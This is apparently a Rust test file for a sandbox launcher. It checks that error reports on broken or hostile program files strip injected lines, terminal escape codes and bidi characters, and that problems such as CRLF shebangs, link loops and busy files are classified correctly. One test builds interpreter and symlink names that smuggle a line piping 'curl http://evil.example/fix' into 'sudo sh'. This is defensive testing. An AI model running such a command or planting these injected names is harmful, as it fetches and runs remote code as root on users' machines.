//! Program files that mean harm, or are merely broken: what is said of them is so, and in our words.

use std::fs::{self, Permissions};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use bwrap_launch::{Error, Namespaces, ProgramProblem as Problem};

use crate::common::{Here, host};

/// An ELF file whose interpreter's name has ends of lines and other things that a terminal obeys, and the same as a script.
pub(crate) fn a_program_file_writes_no_line_of_a_report(here: &Here) {
    let evil = "/lib/x\n     curl http://evil.example/fix | sudo sh\n\x1b[2J\u{202e}";
    let directory = here.scratch.join("bin");
    fs::create_dir(&directory).unwrap();
    let put = |name: &str, bytes: &[u8]| {
        fs::write(directory.join(name), bytes).unwrap();
        fs::set_permissions(directory.join(name), Permissions::from_mode(0o755)).unwrap();
    };
    put("elf", &elf(evil));
    put("script", "#!/lib/x\u{202e}\u{2066}\x1b[2J\n".as_bytes());
    put("dos", b"#!/bin/sh\r\n");
    let long = format!("{}\n     sudo sh", "x".repeat(200));
    symlink("/nowhere\n     sudo sh", directory.join("link")).unwrap();
    for name in ["elf", "script", "dos", "link", &long] {
        let error = here.command(&host(), directory.join(name)).output().unwrap_err();
        assert!(matches!(error, Error::NotExecuted(_)), "{error}");
        if name != long {
            assert!(error.failure().unwrap().program().is_some(), "{name}: {error}");
        }
        for text in [error.to_string(), error.report()] {
            assert!(
                !text
                    .lines()
                    .any(|line| line.trim_start().starts_with("curl")
                        || line.trim_start().starts_with("sudo sh")),
                "{text}"
            );
            assert!(!text.contains(['\x1b', '\r', '\u{202e}', '\u{2066}']), "{name}: {text:?}");
        }
    }
}

/// A minimal ELF file of this machine that names an interpreter.
fn elf(interpreter: &str) -> Vec<u8> {
    let mut bytes = fs::read("/proc/self/exe").unwrap();
    bytes.truncate(64);
    let name = [interpreter.as_bytes(), b"\0"].concat();
    bytes[32..40].copy_from_slice(&64_u64.to_ne_bytes());
    bytes[54..56].copy_from_slice(&56_u16.to_ne_bytes());
    bytes[56..58].copy_from_slice(&1_u16.to_ne_bytes());
    bytes.extend(3_u32.to_ne_bytes()); // PT_INTERP
    bytes.extend(4_u32.to_ne_bytes());
    let size = u64::try_from(name.len()).unwrap();
    bytes.extend([120, 0, 0, size, size, 1_u64].map(u64::to_ne_bytes).concat());
    bytes.extend(name);
    bytes
}

/// Recognises a problem.
type Is = fn(&Problem) -> bool;

/// Where the path is one's own, nothing is said of it that is not so.
pub(crate) fn every_problem_is_found_where_bwrap_meets_it(here: &Here) {
    let directory = here.scratch.join("tools");
    fs::create_dir(&directory).unwrap();
    let put = |name: &str, text: &str, mode| {
        fs::write(directory.join(name), text).unwrap();
        fs::set_permissions(directory.join(name), Permissions::from_mode(mode)).unwrap();
    };
    put("dos", "#!/bin/sh\r\n", 0o755);
    put("itself", &format!("#!{}\n", directory.join("itself").display()), 0o755);
    put("closed", "#!/bin/sh\n", 0o644);
    fs::create_dir(directory.join("shut")).unwrap();
    put("shut/x", "#!/bin/sh\n", 0o755);
    fs::set_permissions(directory.join("shut"), Permissions::from_mode(0o000)).unwrap();
    symlink("round", directory.join("round")).unwrap();
    symlink("/nowhere/x", directory.join("astray")).unwrap();
    fs::copy("/bin/true", directory.join("busy")).unwrap();
    let writer = fs::File::options().append(true).open(directory.join("busy")).unwrap();
    let fifo = nix::unistd::mkfifo(&directory.join("fifo"), nix::sys::stat::Mode::S_IRWXU);
    fifo.unwrap();
    let sandbox = host().unshare(Namespaces::USER).cap_drop_all();
    let cases: [(&str, Is); 9] = [
        ("dos", |problem| matches!(problem, Problem::CarriageReturn { .. })),
        ("itself", |problem| matches!(problem, Problem::InterpreterLoop(_))),
        ("closed", |problem| matches!(problem, Problem::NotExecutable { .. })),
        ("shut/x", |problem| matches!(problem, Problem::NotSearchable { .. })),
        ("round", |problem| matches!(problem, Problem::LinkLoop(_))),
        ("astray", |problem| matches!(problem, Problem::DanglingLink { .. })),
        ("busy", |problem| matches!(problem, Problem::Busy(_))),
        ("fifo", |problem| matches!(problem, Problem::NotAFile(_))),
        ("none", |problem| matches!(problem, Problem::NotFound { .. })),
    ];
    for (name, is) in cases {
        let error = here.command(&sandbox, directory.join(name)).output().unwrap_err();
        let problem = error.failure().and_then(|failure| failure.program());
        assert!(problem.is_some_and(is), "{name}: {problem:?}, {error}");
    }
    let name = "a".repeat(256);
    let error = here.command(&sandbox, Path::new("/tmp").join(name)).output().unwrap_err();
    let problem = error.failure().and_then(|failure| failure.program());
    assert!(matches!(problem, Some(Problem::NameTooLong(_))), "{error}");
    drop(writer);
    fs::set_permissions(directory.join("shut"), Permissions::from_mode(0o755)).unwrap();
}
